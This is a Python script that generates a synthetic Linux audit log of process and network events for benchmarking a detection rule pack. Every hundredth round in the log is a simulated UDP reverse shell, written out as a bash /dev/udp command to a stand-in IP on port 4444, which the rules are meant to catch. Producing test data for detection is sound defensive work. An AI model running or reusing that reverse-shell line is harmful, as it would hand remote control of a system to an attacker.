#!/usr/bin/env python3
"""Writes a synthetic audit.log for `make bench`: kernel-format execve, socket, connect and setsid events.

Each round is one process (its own pid) that runs a command, opens a socket and connects; every 100th round is
a UDP reverse shell (bash to 192.0.2.2:4444) that the shipped rule pack must alert on. Deterministic output.
Usage: generate.py ROUNDS > audit.log
"""
import sys

COMMANDS = [
    ("/usr/bin/curl", ["curl", "-s", "https://example.org/health"]),
    ("/usr/bin/git", ["git", "fetch", "origin"]),
    ("/usr/bin/python3.11", ["python3", "/opt/app/worker.py", "--queue", "default"]),
    ("/usr/bin/ssh", ["ssh", "deploy@192.0.2.10", "uptime"]),
]
SADDR_TCP = "02000050C000020A0000000000000000"   # AF_INET 192.0.2.10:80
SADDR_UDP = "0200115CC00002020000000000000000"   # AF_INET 192.0.2.2:4444


def hexify(text):
    return text.encode().hex().upper()


def syscall(out, t, serial, nr, pid, ppid, comm, exe, a, exit_code="0", items=0, key="auspex"):
    out.append(f'type=SYSCALL msg=audit({t}:{serial}): arch=c000003e syscall={nr} success=yes exit={exit_code} '
               f'a0={a[0]} a1={a[1]} a2={a[2]} a3={a[3]} items={items} ppid={ppid} pid={pid} auid=1000 uid=1000 '
               f'gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 '
               f'comm="{comm}" exe="{exe}" subj=unconfined key="{key}"')


def tail(out, t, serial, argv):
    out.append(f'type=PROCTITLE msg=audit({t}:{serial}): proctitle={hexify(chr(0).join(argv))}')
    out.append(f'type=EOE msg=audit({t}:{serial}): ')


def round_records(i, serial):
    out = []
    pid, ppid = 10000 + i % 50000, 900 + i % 7
    t0 = 1700000000 + i // 100
    ms = i % 100 * 10
    shell = i % 100 == 99
    exe, argv = ("/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/udp/192.0.2.2/4444"]) if shell else COMMANDS[i % len(COMMANDS)]
    comm = argv[0]
    t = f"{t0}.{ms:03d}"
    syscall(out, t, serial, 59, pid, ppid, comm, exe, ["55d5c0a1b2c0", "55d5c0a1c3d0", "55d5c0a0f1a0", "8"], items=2)
    out.append(f'type=EXECVE msg=audit({t}:{serial}): argc={len(argv)} ' + " ".join(f'a{n}="{a}"' for n, a in enumerate(argv)))
    out.append(f'type=CWD msg=audit({t}:{serial}): cwd="/home/deploy"')
    out.append(f'type=PATH msg=audit({t}:{serial}): item=0 name="{exe}" inode=1835 dev=08:01 mode=0100755 ouid=0 '
               f'ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0')
    out.append(f'type=PATH msg=audit({t}:{serial}): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=2366 dev=08:01 '
               f'mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0')
    tail(out, t, serial, argv)
    t = f"{t0}.{ms + 1:03d}"
    udp = shell or i % 4 == 3
    syscall(out, t, serial + 1, 41, pid, ppid, comm, exe, ["2", "2" if udp else "1", "0", "7f3a2b1c0d10"], exit_code="3")
    tail(out, t, serial + 1, argv)
    t = f"{t0}.{ms + 2:03d}"
    syscall(out, t, serial + 2, 42, pid, ppid, comm, exe, ["3", "7ffd4a2b3c40", "10", "0"])
    out.append(f'type=SOCKADDR msg=audit({t}:{serial + 2}): saddr={SADDR_UDP if shell else SADDR_TCP}')
    tail(out, t, serial + 2, argv)
    return out


def main():
    rounds = int(sys.argv[1]) if len(sys.argv) > 1 else 20000
    serial = 1000
    write = sys.stdout.write
    for i in range(rounds):
        write("\n".join(round_records(i, serial)) + "\n")
        serial += 3


if __name__ == "__main__":
    main()
